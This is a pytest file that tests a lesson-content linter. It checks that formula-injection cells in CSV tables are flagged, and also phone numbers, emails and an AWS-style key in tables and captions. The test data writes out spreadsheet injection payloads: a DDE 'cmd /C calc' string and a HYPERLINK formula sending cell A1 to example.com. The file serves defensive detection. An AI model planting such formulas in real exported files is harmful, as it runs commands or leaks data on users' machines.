"""Tables and captions beside the pages are read as the pages are."""

import pytest

from tests.sample import checked, findings

PAGE = "--- lessons/one.md\ntitle: One\n---\n[The figures](a.csv).\n"
TABLE = PAGE + "--- lessons/a.csv\n{}\n"
CAPTIONS = "--- lessons/a.vtt\nWEBVTT\n\n00:01.000 --> 00:02.000\n{}\n"


def of_tables(text: str) -> list[int]:
    report = checked(TABLE.format(text))[1]
    return [one.span.line for one in report if one.code == "LS506"]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '"=HYPERLINK(""https://example.com/?""&A1)"',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "-2,5+cmd|' /C calc'!A0",
        "@SUM(A1)",
        " =1",
        '"\t=1"',
        '"\r=1"',
        '=" , "&A1',
        "＝1+1",
    ],
)
@pytest.mark.parametrize("sign", [",", ";", "\t"])
def test_a_cell_that_a_program_would_reckon_with_is_found(cell, sign):
    """Whatever parts the cells, and in quotes too."""
    cell = cell if sign not in cell or '"' in cell else f'"{cell}"'
    assert of_tables(f"month{sign}sum\n{cell}{sign}May\nMay{sign}{cell}")[0] == 2


@pytest.mark.parametrize(
    "row",
    [
        "-5,+3.5,-1 000,-2%,-1e-5",
        "-5;-2,5;x",
        "-2,word",
        "-,5",
        "+/-,--,-",
        '"a, -b; =c",x',
        "a=b,c-d,e@f",
        "-$5,- 5,-.5",
    ],
)
def test_numbers_and_words_are_taken(row):
    """Also where a sign stands alone, for a figure that nobody has."""
    assert of_tables(f"{row}\n{row}") == []


def test_a_cell_too_long_to_be_read_is_found():
    """Whatever stands behind it would not be looked at."""
    assert of_tables("a,[... 140,000 more letters ...]\n=1,2") == [1]


@pytest.mark.parametrize(
    ("words", "code"),
    [
        ("Ring +27 82 123 4567", "LS421"),
        ("somebody@health.gov", "LS421"),
        ("AKIAABCDEFGHIJKLMNOP", "LS422"),
    ],
)
def test_what_leads_to_somebody_is_found_in_files(words, code):
    """With its line, in a table and in captions."""
    assert ("lessons/a.csv", 2, code) in findings(TABLE.format(f"who\n{words}"))
    assert ("lessons/a.vtt", 4, code) in findings(CAPTIONS.format(words))


def test_times_and_figures_of_files_are_nobodys_number():
    """Captions are full of times, and tables of figures."""
    text = TABLE.format("day,visits\n2024-01-02,12000\n2024-01-03,1200000") + CAPTIONS.format("Hm")
    assert not {code for _, _, code in findings(text)} & {"LS421", "LS422", "LS506"}
